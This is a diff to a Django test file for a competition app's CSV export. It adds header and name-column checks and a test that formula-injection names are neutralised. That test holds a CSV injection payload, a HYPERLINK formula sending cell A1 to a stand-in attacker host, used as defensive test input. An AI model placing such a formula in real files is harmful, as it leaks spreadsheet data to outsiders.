@@ -9,6 +9,7 @@ import io
 from typing import Any
 
 import pytest
+from django.contrib.auth import get_user_model
 from rest_framework.test import APIClient
 
 from leagues.core.errors import LeagueError
@@ -202,25 +203,60 @@ def test_the_csv_export_lists_every_record(organiser: Any, swiss: Any) -> None:
         organiser,
         cid,
         first.id,
-        points={"north_south": 40, "east_west": 110},
+        points={"north_south": -40, "east_west": 110},
         winner="east_west",
         reason="swapped on the sheet",
     )
     response = APIClient().get(f"/api/competitions/{cid}/export?as=csv")
     assert response.status_code == 200
-    assert response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == f'attachment; filename="competition-{cid}.csv"'
+    assert response.content.startswith(b"\xef\xbb\xbfrecord,")  # the UTF-8 byte order mark
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
     results = [row for row in rows if row["record"] == "result"]
     assert len(results) == 3  # two boards and the correction
     correction = next(r for r in results if r["corrects"])
     assert correction["corrects"] == first.id and correction["winner"] == "east_west"
     assert (correction["ns_match_points"], correction["ew_match_points"]) == ("0", "2")
+    # A negative score is a number, written as one (only text cells are neutralised).
+    assert correction["ns_game_points"] == "-40"
+    # Names beside the ids: the entrants' names and the players' usernames.
+    state = load(cid)
+    names = {e.id: e.name for e in state.entrants.values()}
+    assert correction["north_south_name"] == names[correction["north_south"]]
+    assert correction["east_west_name"] == names[correction["east_west"]]
+    first_entrant = next(row for row in rows if row["record"] == "entrant")
+    assert first_entrant["name"] == "Pair 1"
+    usernames = dict(get_user_model().objects.values_list("pk", "username"))
+    assert first_entrant["player_1_username"] == usernames[int(first_entrant["player_1"])]
+    assert first_entrant["player_2_username"].startswith("player")
     assert [row["round"] for row in rows if row["record"] == "bye"] == ["1"]
     assert len([row for row in rows if row["record"] == "entrant"]) == 5
     assert len([row for row in rows if row["record"] == "pairing"]) == 2
     standings = [row for row in rows if row["record"] == "standing"]
     assert [row["rank"] for row in standings] == ["1", "2", "3", "4", "5"]
     assert all(row["tb_buchholz"] != "" for row in standings)
+
+
+def test_the_csv_export_writes_no_live_formula(organiser: Any, swiss: Any, players: Any) -> None:
+    """A name a spreadsheet would run (issue 17: ``=HYPERLINK(...)``) is written as text."""
+    cid = swiss(2, rounds=1, name="+SUM(1,1)")
+    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"Pair 3")'
+    lg.enter(
+        organiser,
+        cid,
+        entrant_id="e3",
+        players=[str(user.pk) for user in players(2)],
+        name=hostile,
+    )
+    response = APIClient().get(f"/api/competitions/{cid}/export?as=csv")
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert next(r for r in rows if r["record"] == "entrant" and r["entrant"] == "e3")["name"] == (
+        "'" + hostile
+    )
+    assert next(r for r in rows if r["record"] == "competition")["name"] == "'+SUM(1,1)"
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
 
 
 SHEET = {
